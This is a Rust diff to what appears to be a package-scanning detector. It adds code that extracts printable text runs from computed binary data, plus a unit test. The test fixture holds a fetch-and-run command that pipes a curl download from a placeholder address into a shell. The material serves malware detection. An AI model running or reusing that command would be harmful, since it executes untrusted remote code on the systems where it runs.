@@ -883,7 +883,13 @@ impl<'a> Collector<'a> {
         if self.in_test() {
             return;
         }
-        let Some(bytes) = constants.evaluate(callee, exprs) else {
+        let evaluated = constants.evaluate(callee, exprs);
+        // `var(K_ROOT)` whose body reads `env::var(key(k))`: the variable the name decodes to is
+        // read here, whatever its value.
+        for name in constants.variables_asked_last() {
+            self.variable(&name, line);
+        }
+        let Some(bytes) = evaluated else {
             // The package's decoder run on constants, beyond what the interpreter works out
             // (a generator of its own type, a table it builds): still a value the code fixes.
             if constants.evaluates()
@@ -905,17 +911,24 @@ impl<'a> Collector<'a> {
 
     /// What the package's code computed (`bytes`, read as `found`), where it is used: only what
     /// it hides counts, and reading it is charged to the scan's budget.
-    fn judge_computed(
-        &mut self,
-        bytes: &[u8],
-        read: impl FnOnce(&[u8]) -> Vec<SignalKind>,
-        line: u32,
-    ) {
+    fn judge_computed(&mut self, bytes: &[u8], read: impl Fn(&[u8]) -> Vec<SignalKind>, line: u32) {
         let Some(constants) = self.constants else {
             return;
         };
         if !self.take_budget(bytes.len()) {
             return;
+        }
+        // Binary data with text inside it (a length byte, argv split on `\x1f`, then the
+        // rest of a whitened table): the text is read as the program reads it, run by run.
+        if std::str::from_utf8(bytes).is_err() || bytes.iter().any(|b| is_separator(*b)) {
+            for run in printable_runs(bytes) {
+                if let Ok(text) = std::str::from_utf8(&run) {
+                    self.literal(text, line);
+                }
+                if let Some(found) = hidden_only(read(&run), &run, constants) {
+                    self.push_all(found, line);
+                }
+            }
         }
         // What the code computes is read as if it were written out there: a pool's protocol
         // assembled (`format!("{NS}.{s}")` for `mining.subscribe`), a git command's words
@@ -3330,6 +3343,37 @@ fn cuts_a_label(joined: &str, host: &str, cuts: &[usize]) -> bool {
 /// domain written whole, so a destination is hidden only when the organisation it belongs to
 /// (its last two labels, or the whole address) is written nowhere in the package; and text whose
 /// every word is written somewhere (a base URL and a path) hides nothing.
+/// Shortest run of printable text read out of computed binary data: shorter runs are what any
+/// table of numbers holds by chance.
+const MIN_PRINTABLE_RUN: usize = 8;
+
+/// The most runs of text read out of one computed value.
+const MAX_PRINTABLE_RUNS: usize = 16;
+
+/// A control byte that splits strings packed into one value (other than NUL, which
+/// `judge_computed` splits on already): the ASCII separators, and line ends.
+fn is_separator(byte: u8) -> bool {
+    matches!(byte, 0x1c..=0x1f)
+}
+
+/// The runs of printable ASCII (space included) in `bytes` at least [`MIN_PRINTABLE_RUN`]
+/// long, the first [`MAX_PRINTABLE_RUNS`] of them: what `strings` would print. Runs joined by a
+/// single separator (argv split on `\x1f`, fields on `\x1e`) are one run, spaced, since that
+/// is the command line the program puts back together.
+fn printable_runs(bytes: &[u8]) -> Vec<Vec<u8>> {
+    let printable = |b: u8| (0x20..0x7f).contains(&b) || is_separator(b);
+    bytes
+        .split(|b| !printable(*b))
+        .filter(|run| run.iter().filter(|b| !is_separator(**b)).count() >= MIN_PRINTABLE_RUN)
+        .take(MAX_PRINTABLE_RUNS)
+        .map(|run| {
+            run.iter()
+                .map(|&b| if is_separator(b) { b' ' } else { b })
+                .collect()
+        })
+        .collect()
+}
+
 fn hidden_only(
     mut found: Vec<SignalKind>,
     bytes: &[u8],
@@ -3634,6 +3678,20 @@ pub fn is_script_path(path: &str) -> bool {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    /// Text inside computed binary data is read run by run, argv separators made spaces;
+    /// short runs, which any table of numbers holds, are not.
+    #[test]
+    fn text_is_read_out_of_computed_binary_data() {
+        let mut bytes = vec![0x57, 0xff];
+        bytes.extend_from_slice(b"sh\x1f-c\x1fcurl -s http://192.0.2.1/x | sh");
+        bytes.extend_from_slice(&[0x91, 0x00, 0xfe, b'a', b'b', b'c', 0x80]);
+        assert_eq!(
+            printable_runs(&bytes),
+            vec![b"sh -c curl -s http://192.0.2.1/x | sh".to_vec()]
+        );
+        assert!(printable_runs(&[0x1f; 12]).is_empty());
+    }
 
     /// The signals of one library file, parsed.
     fn parsed_signals(source: &str) -> Vec<SignalKind> {
